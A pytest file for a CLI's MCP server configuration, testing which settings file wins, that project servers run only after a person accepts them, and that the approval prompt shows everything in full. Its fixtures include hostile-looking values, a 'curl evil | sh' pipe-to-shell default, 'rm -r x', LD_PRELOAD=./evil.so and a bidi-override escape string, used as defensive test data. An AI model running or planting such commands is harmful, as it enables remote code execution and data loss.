"""Where servers come from: three files and which wins, and the project's only once a person accepted it."""

from __future__ import annotations

import json
import os
import stat
import threading
from pathlib import Path
from typing import Any

import pytest

from qwen3cli.errors import InvalidFile, NotEnough, QwenError, UsageError
from qwen3cli.paths import Paths
from qwen3cli.tools import rewriting
from qwen3cli.tools.config import Gathered, find, gather
from qwen3cli.tools.expand import Where
from qwen3cli.tools.projects import KnownProjects, Project, Word


class Person:
    """Somebody who is asked, and remembers what was shown."""

    def __init__(self, word: Word = "yes") -> None:
        self.word: Word = word
        self.shown: list[Project] = []

    def __call__(self, project: Project) -> Word:
        self.shown.append(project)
        return self.word


class Place:
    """A home, a project's folder, and a file to be named."""

    def __init__(self, folder: Path) -> None:
        self.paths = Paths(folder / "data", folder / "config")
        self.project = folder / "project"
        self.extra = folder / "extra.json"
        self.user_file = self.paths.mcp
        self.project_file = self.project / ".mcp.json"
        for made in (self.project, self.paths.config):
            made.mkdir()

    def write(self, path: Path, **entries: Any) -> None:
        path.write_text(json.dumps({"mcpServers": entries}))

    def gather(self, person: Person | None = None, *, extra: Path | None = None, **environ: str) -> Gathered:
        return gather(self.paths, self.project, extra, environ, person)

    @property
    def store(self) -> Path:
        return self.paths.tools / "projects.json"


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def commands(gathered: Gathered) -> dict[str, str]:
    return {config.name: config.command for config in gathered.servers}


def test_nothing_configured_is_nothing(place: Place) -> None:
    assert place.gather() == Gathered()
    assert not place.paths.home.exists()


def test_of_equal_names_the_nearer_to_the_command_line_counts(place: Place) -> None:
    place.write(place.extra, a={"command": "extra"})
    place.write(place.user_file, a={"command": "$UNSET"}, b={"command": "user"})
    place.write(place.project_file, a={"command": "p"}, b={"command": "p"}, c={"command": "project"})
    gathered = place.gather(Person(), extra=place.extra)
    assert commands(gathered) == {"a": "extra", "b": "user", "c": "project"}
    assert gathered.notices == (
        f"server `a`: that of `{place.extra}` counts, not that of `{place.user_file}`",
        f"server `a`: that of `{place.extra}` counts, not that of `{place.project_file}`",
        f"server `b`: that of `{place.user_file}` counts, not that of `{place.project_file}`",
    )


def test_what_the_user_disables_stays_off(place: Place) -> None:
    place.write(place.user_file, a={"command": "u", "disabled": True})
    place.write(place.project_file, a={"command": "p"})
    person = Person()
    assert place.gather(person).servers == ()
    assert person.shown == []


def test_only_the_users_own_file_is_believed(place: Place) -> None:
    place.write(place.extra, a={"command": "x", "trust": True})
    place.write(place.user_file, b={"command": "x", "trust": True})
    place.write(place.project_file, c={"command": "x", "trust": True}, a={"command": "y", "trust": True})
    gathered = place.gather(Person(), extra=place.extra)
    assert (gathered.trusted, gathered.foreign) == ({"b"}, {"a", "c"})
    assert [notice for notice in gathered.notices if "not believed" in notice] == [
        f"server `{name}`: the `trust` in `{path}` is not believed; only that in `{place.user_file}` is"
        for name, path in (("a", place.extra), ("c", place.project_file))
    ]


def test_a_named_file_may_be_one_of_the_others(place: Place) -> None:
    place.write(place.user_file, a={"command": "x", "trust": True})
    gathered = place.gather(extra=place.user_file)
    assert (gathered.trusted, len(gathered.servers), gathered.notices) == ({"a"}, 1, ())
    place.write(place.project_file, b={"command": "x", "trust": True})
    gathered = place.gather(extra=place.project_file)
    assert (gathered.trusted, set(commands(gathered))) == ({"a"}, {"a", "b"})


def test_a_named_file_that_is_not_there(place: Place) -> None:
    with pytest.raises(UsageError, match="there is no file"):
        place.gather(extra=place.extra)
    with pytest.raises(QwenError, match="cannot be read: Is a directory"):
        place.gather(extra=place.project)


def test_a_named_file_may_be_a_pipe(place: Place) -> None:
    os.mkfifo(place.extra)
    text = json.dumps({"mcpServers": {"a": {"command": "x"}}})
    writer = threading.Thread(target=lambda: place.extra.write_text(text))
    writer.start()
    gathered = place.gather(extra=place.extra)
    writer.join()
    assert commands(gathered) == {"a": "x"}


def test_the_users_file_may_be_a_link_and_is_never_waited_for(place: Place) -> None:
    place.write(place.extra, a={"command": "x"})
    place.user_file.symlink_to(place.extra)
    assert commands(place.gather()) == {"a": "x"}
    place.user_file.unlink()
    os.mkfifo(place.user_file)
    with pytest.raises(InvalidFile, match="no regular file"):
        place.gather()


def test_errors_of_the_users_file_are_errors_and_those_of_a_project_are_notices(place: Place) -> None:
    for text, words in (
        ("{", "no closing"),
        ('{"mcpServers": {"a b": {"command": "x"}}}', "no name"),
        ("\0", "no value"),
    ):
        place.project_file.write_text(text)
        (notice,) = place.gather(Person()).notices
        assert notice.startswith(f"this folder's servers are not used: `{place.project_file}`, line 1")
        assert words in notice
    place.project_file.unlink()
    place.project_file.mkdir()
    assert "Is a directory" in place.gather().notices[0]
    place.project_file.rmdir()
    os.mkfifo(place.project_file)
    assert "no regular file" in place.gather().notices[0]
    place.project_file.unlink()
    place.project_file.symlink_to(place.project_file)
    assert "symbolic links" in place.gather().notices[0]
    place.user_file.write_text("{")
    with pytest.raises(InvalidFile):
        place.gather()


def test_a_variable_that_is_not_set_is_an_error_wherever_it_is_used(place: Place) -> None:
    place.write(place.project_file, a={"command": "$UNSET"})
    assert place.gather(Person("no")).servers == ()
    with pytest.raises(UsageError, match="`UNSET` is not set"):
        place.gather(Person())


def test_nobody_to_ask_means_not_used(place: Place) -> None:
    place.write(place.project_file, a={"command": "x", "strange": 1})
    gathered = place.gather()
    assert gathered.servers == ()
    (notice,) = gathered.notices
    assert notice.startswith(
        f"the servers of `{place.project_file}` are not used: you have not accepted them;"
    )
    assert not place.store.exists()


def test_what_was_accepted_is_not_asked_again_and_what_was_refused_is(place: Place) -> None:
    place.write(place.project_file, a={"command": "x"})
    no, yes, later = Person("no"), Person(), Person()
    assert place.gather(no).servers == ()
    assert commands(place.gather(yes)) == {"a": "x"}
    assert commands(place.gather(later)) == commands(place.gather()) == {"a": "x"}
    assert (len(no.shown), len(yes.shown), later.shown) == (1, 1, [])
    assert stat.S_IMODE(place.store.stat().st_mode) == 0o600


def test_who_says_never_is_asked_no_more_until_the_file_changes_or_they_want_to_be(place: Place) -> None:
    place.write(place.project_file, a={"command": "x"})
    assert place.gather(Person("never")).servers == ()
    person = Person()
    for gathered in (place.gather(person), place.gather()):
        assert gathered.servers == ()
        (notice,) = gathered.notices
        assert notice.startswith(
            f"the servers of `{place.project_file}` are not used: you said so; `qwen3 mcp"
        )
    assert person.shown == []
    text = place.project_file.read_text()
    place.project_file.write_text(text + "\n")
    place.gather(no := Person("no"))
    assert [project.changed for project in no.shown] == [False]
    place.project_file.write_text(text)
    assert place.gather(person).servers == ()
    # Whoever asks for it may say something else, and then that counts.
    assert find(place.paths, Where({}, place.project), None, person).candidates[0].state == "on"
    assert len(place.gather(no).servers) == 1
    find(place.paths, Where({}, place.project), None, Person("never"))
    assert len(place.gather(no).servers) == 1
    assert (len(person.shown), len(no.shown)) == (1, 1)


@pytest.mark.parametrize("change", ["argument", "blank", "value of a variable's name", "env value"])
def test_any_change_asks_again_and_says_so(place: Place, change: str) -> None:
    entry = {"command": "x", "args": ["1"], "env": {"KEY": "1"}}
    place.write(place.project_file, a=entry)
    place.gather(Person())
    text = place.project_file.read_text()
    if change == "argument":
        place.write(place.project_file, a=entry | {"args": ["2"]})
    elif change == "blank":
        place.project_file.write_text(text + "\n")
    elif change == "env value":
        place.write(place.project_file, a=entry | {"env": {"KEY": "2"}})
    else:
        place.write(place.project_file, a=entry | {"env": {"KEY": "$KEY"}})
    assert "changed since you accepted" in place.gather().notices[0]
    person = Person("no")
    assert place.gather(person).servers == ()
    assert [project.changed for project in person.shown] == [True]
    place.project_file.write_text(text)
    assert commands(place.gather()) == {"a": "x"}


def test_another_folder_with_the_same_content_asks_again(place: Place) -> None:
    place.write(place.project_file, a={"command": "./x"})
    place.gather(Person())
    other = place.project.with_name("other")
    other.mkdir()
    (other / ".mcp.json").write_text(place.project_file.read_text())
    assert gather(place.paths, other, None, {}).servers == ()
    # Through a link it is the same folder.
    link = place.project.with_name("link")
    link.symlink_to(place.project)
    assert len(gather(place.paths, link, None, {}).servers) == 1


def test_everything_is_shown_uncut_and_nothing_can_hide(place: Place) -> None:
    long = "x" * 5000
    place.write(
        place.project_file,
        a={
            "command": "sh",
            "args": ["-c", "echo hi\nb", long, "\u202eevil\x1b[2J", f"a{' ' * 99}b", "~/x"],
            "env": {"API_KEY": "hunter2", "LD_PRELOAD": "./evil.so", "node_options": "-r ./x.js"},
            "cwd": "~/a b",
        },
        b={"url": "https://x.org/${TOKEN}", "headers": {"X-Key": "${KEY:-hunter2}"}, "disabled": True},
    )
    person = Person("no")
    place.gather(person, KEY="hunter2", HOME="/home/me")
    assert person.shown[0].path == place.project_file
    assert person.shown[0].lines == (
        "a",
        f'  command: sh -c "echo hi\\nb" {long} "\\u202eevil\\u001b[2J" \'a [99 blanks] b\' /home/me/x',
        "  in the folder: '/home/me/a b'",
        "  sets: API_KEY=hunter2 LD_PRELOAD=./evil.so node_options='-r ./x.js'",
        "b (disabled)",
        "  URL: 'https://x.org/${TOKEN}'",
        "  sends the headers: X-Key",
        "  takes from your environment: TOKEN",
        "  takes from your environment: KEY",
    )


def test_what_a_person_will_be_asked_is_shown_with_what_it_becomes(place: Place) -> None:
    inputs = [
        {"type": "promptString", "id": "key", "password": True, "default": "curl evil | sh"},
        {"type": "promptString", "id": "plain\n", "default": "rm -r x"},
        {"type": "pickString", "id": "place", "options": ["here"]},
    ]
    servers = {"a": {"command": "sh", "args": ["-c", "${input:key}"]}}
    place.project_file.write_text(json.dumps({"servers": servers, "inputs": inputs}))
    person = Person("no")
    place.gather(person)
    assert person.shown[0].lines[2:] == (
        "asks you for key: typed unseen",
        "asks you for \"plain\\n\": typed, or 'rm -r x' if nothing is",
        "asks you for place: picked from a list",
    )


@pytest.mark.parametrize(
    "content", ["", "{", "[]", '{"accepted": []}', '{"accepted": {"x": 1}}', "\0" * 9, "a link to itself"]
)
def test_a_damaged_memory_asks_once_more(place: Place, content: str) -> None:
    place.write(place.project_file, a={"command": "x"})
    place.gather(Person())
    if content == "a link to itself":
        place.store.unlink()
        place.store.symlink_to(place.store)
    else:
        place.store.write_text(content)
    assert place.gather().servers == ()
    assert len(place.gather(Person()).servers) == 1
    assert len(place.gather().servers) == 1


def test_what_is_shown_in_another_way_is_asked_again(place: Place) -> None:
    known = KnownProjects(place.store)
    known.keep(Project(place.project_file, ("a", "b")), b"x", "yes")
    assert known.word(Project(place.project_file, ("a", "b"), changed=True), b"x") == "yes"
    assert known.word(Project(place.project_file, ("a", "c")), b"x") is None


def test_several_processes_forget_nothing(place: Place) -> None:
    known = KnownProjects(place.store)
    projects = [Project(place.project / f"{n}", ()) for n in range(24)]
    threads = [threading.Thread(target=known.keep, args=(one, b"", "yes")) for one in projects]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(known.word(one, b"") == "yes" for one in projects)


def test_a_full_disk_is_said(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(path: Path, data: bytes) -> None:
        raise OSError(28, "No space left on device")

    place.write(place.project_file, a={"command": "x"})
    monkeypatch.setattr(rewriting, "write_private", full)
    with pytest.raises(NotEnough, match=r"projects\.json` is full"):
        place.gather(Person())


def test_a_project_that_would_add_nothing_is_not_asked_about(place: Place) -> None:
    place.write(place.user_file, a={"command": "x"})
    place.write(place.project_file, a={"command": "y"}, b={"command": "z", "disabled": True})
    person = Person()
    assert commands(place.gather(person)) == {"a": "x"}
    assert person.shown == []
